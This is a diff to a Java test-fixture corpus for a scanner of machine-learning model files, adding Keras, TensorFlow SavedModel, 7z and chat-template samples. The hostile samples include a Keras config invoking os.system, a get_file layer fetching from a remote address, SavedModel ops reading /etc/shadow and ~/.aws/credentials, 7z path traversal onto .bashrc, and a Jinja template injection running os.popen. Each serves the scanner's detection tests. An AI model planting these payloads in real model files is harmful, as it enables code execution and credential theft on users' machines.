@@ -5,6 +5,7 @@ import io.airlock.fixtures.UnicodePathZip;
 
 import io.airlock.fixtures.PickleBuilder;
 import io.airlock.fixtures.Samples;
+import io.airlock.fixtures.SavedModelBuilder;
 import io.airlock.fixtures.ZipBuilder;
 
 import io.airlock.scanner.engine.Folders.Container;
@@ -76,6 +77,7 @@ public final class HostileCorpus {
     static final String SAFETENSORS = "safetensors";
     static final String WEIGHTS = "weights";
     static final String FOLDERS = "model folders and repositories: Hugging Face, Keras, diffusers, ONNX";
+    static final String FORMATS_READ = "formats read, not refused: Keras 3 objects, TensorFlow SavedModel, 7z, chat templates alone";
 
     static final String DANGEROUS = "pickle.dangerous_import";
     static final String GADGETS = "picklescan/modelscan unsafe-globals lists (see FIELD-NOTES): ";
@@ -137,6 +139,7 @@ public final class HostileCorpus {
         weights(c.family(WEIGHTS));
         folders(c.family(FOLDERS));
         kerasH5(c);
+        formatsRead(c.family(FORMATS_READ));
         return List.copyOf(c.out);
     }
 
@@ -538,7 +541,7 @@ public final class HostileCorpus {
                         legacy(legacyModel(), "0", concat(le64(4), new byte[16], zip().with("x.pkl", EVIL).bytes())),
                         "pickle.trailing_data")
                 .add("7z-compressed PyTorch model", NULLIFAI + "7z archives that scanners did not open", "model.7z",
-                        sevenZip("archive/data.pkl", EVIL), "format.unknown");
+                        sevenZip("archive/data.pkl", EVIL), DANGEROUS);
     }
 
     private static void torchAndZip(Catalogue c) {
@@ -722,6 +725,39 @@ public final class HostileCorpus {
                                 + CONCAT_TEMPLATE.replace("\"", "\\\"") + "\"}"), Container.ZIP), "hf.template_injection");
     }
 
+    /** Formats once refused as unknown or passed unjudged: Keras 3 object resolution, SavedModel ops, 7z, templates alone. */
+    private static void formatsRead(Catalogue c) {
+        String getFile = "{\"module\": \"keras.src.utils.file_utils\", \"class_name\": \"get_file\", \"config\":"
+                + " {\"origin\": \"http://203.0.113.1/x\"}, \"registered_name\": null}";
+        c.add("Keras config.json alone naming module os", "issue 13: Keras reads config.json before anything else",
+                        "model.keras", zip().with("config.json", ascii("{\"module\": \"os\", \"class_name\": \"system\","
+                                + " \"config\": {}, \"registered_name\": null}")).bytes(), "keras.foreign_module")
+                .add("Keras keras.src function as class_name", "JFrog 2025 CVE-2025-1550 (Keras safe_mode bypass)",
+                        "model.keras", zip().with("config.json", ascii("{\"module\": \"keras\", \"class_name\":"
+                                + " \"Sequential\", \"config\": {\"layers\": [" + getFile + "]}}")).bytes(),
+                        "keras.function_as_class")
+                .add("Keras TorchModuleWrapper", "Keras TorchModuleWrapper: torch.load of bytes in the config",
+                        "model.keras", Folders.keras("{\"module\": \"keras.layers\", \"class_name\": \"TorchModuleWrapper\","
+                                + " \"config\": {\"module\": \"gASVAAAAAAAAAAA=\"}, \"registered_name\": null}"), "keras.code_layer")
+                .add("SavedModel with a PyFunc", "TensorFlow tf.py_function in a SavedModel graph", "saved_model.zip",
+                        pack(SavedModelBuilder.folder("m/", SavedModelBuilder.savedModel(List.of(
+                                SavedModelBuilder.node("p", "PyFunc", "x")), List.of())), Container.ZIP), "savedmodel.python_op")
+                .add("SavedModel ReadFile of a constant path", "TensorFlow tf.io.read_file in a SavedModel graph",
+                        "saved_model.tar", pack(SavedModelBuilder.folder("m/", SavedModelBuilder.savedModel(List.of(
+                                SavedModelBuilder.stringConst("path", "/etc/shadow"), SavedModelBuilder.node("r", "ReadFile",
+                                        "path")), List.of())), Container.TAR), "savedmodel.file_op")
+                .add("SavedModel RestoreV2 on a constant path", "issue 13: save/restore ops with attacker paths",
+                        "saved_model.zip", pack(SavedModelBuilder.folder("", SavedModelBuilder.savedModel(List.of(
+                                SavedModelBuilder.stringConst("c", "/home/user/.aws/credentials"), SavedModelBuilder.node(
+                                        "RestoreV2", "RestoreV2", "c", "n", "s")), List.of())), Container.ZIP),
+                        "savedmodel.constant_path")
+                .add("7z member climbing out of the folder", NULLIFAI + "7z archives; Zip Slip in 7z", "model.7z",
+                        sevenZip("../../.bashrc", ascii("id")), "sevenz.path_traversal")
+                .add("chat template alone with an SSTI", "CVE-2024-34359 as chat_template.jinja alone", "chat_template.jinja",
+                        ascii("{% for m in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}"),
+                        "hf.template_injection");
+    }
+
     /** Info-ZIP Unicode Path extra fields (0x7075) that rename members for the readers honouring them. */
     private static void unicodePaths(Catalogue c) {
         byte[] notes = ascii("x");
@@ -876,6 +912,16 @@ public final class HostileCorpus {
                 .add("Hugging Face repository whose members carry Unicode Path fields (zip)", "honest: Info-ZIP on Unix"
                         + " writes the field with the same UTF-8 name; a Windows tool writes a code-page name (CP437 0x82"
                         + " for \u00e9) and its UTF-8 spelling", "repo.zip", honestUnicodePathRepository(), "");
+        c.family("benign formats read, not refused")
+                .add("Keras 3 archive without metadata.json", "honest: config.json and model.weights.h5", "model.keras",
+                        zip().with("config.json", ascii(Folders.HONEST_KERAS)).with("model.weights.h5", Samples.hdf5(0)).bytes(), "")
+                .add("TensorFlow 2 SavedModel (zip)", "honest: tf.saved_model.save's layout, saver on its fed prefix",
+                        "saved_model.zip", pack(SavedModelBuilder.folder("m/", SavedModelBuilder.tf2()), Container.ZIP), "")
+                .add("TensorFlow 1 SavedModel (tar)", "honest: tf.compat.v1 Saver's PlaceholderWithDefault path",
+                        "saved_model.tar", pack(SavedModelBuilder.folder("m/", SavedModelBuilder.tf1()), Container.TAR), "")
+                .add("7z holding a safetensors file", "honest", "model.7z", sevenZip("model.safetensors", Samples.safetensors()), "")
+                .add("ChatML chat template alone", "honest", "chat_template.jinja", ascii("{% for m in messages %}"
+                        + "{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>\\n' }}{% endfor %}"), "");
         c.family("benign Keras .h5")
                 .add("Keras .h5 with an honest model config (Dense layers)", "honest: a Keras 2 model_config and training"
                         + " weights", "model.h5", kerasH5File(HONEST_H5_CONFIG), "")
@@ -1057,7 +1103,8 @@ public final class HostileCorpus {
 
     /**
      * A 7z archive holding one stored ("Copy" coder) member: signature header, the packed stream,
-     * then the header (main streams info, one folder, the file name). Numbers are 7z varints.
+     * then the header (main streams info, one folder, an empty substreams info, the file name). Numbers
+     * are 7z varints.
      */
     static byte[] sevenZip(String name, byte[] content) {
         ByteArrayOutputStream h = new ByteArrayOutputStream();
@@ -1078,6 +1125,8 @@ public final class HostileCorpus {
         h.write(0x00);
         h.write(0x0c);
         num(h, content.length);
+        h.write(0x00);
+        h.write(0x08); // SubStreamsInfo: empty, so one stream per folder (Commons Compress wants it present)
         h.write(0x00);
         h.write(0x00); // end of MainStreamsInfo
         h.write(0x05); // FilesInfo: one file and its UTF-16LE name
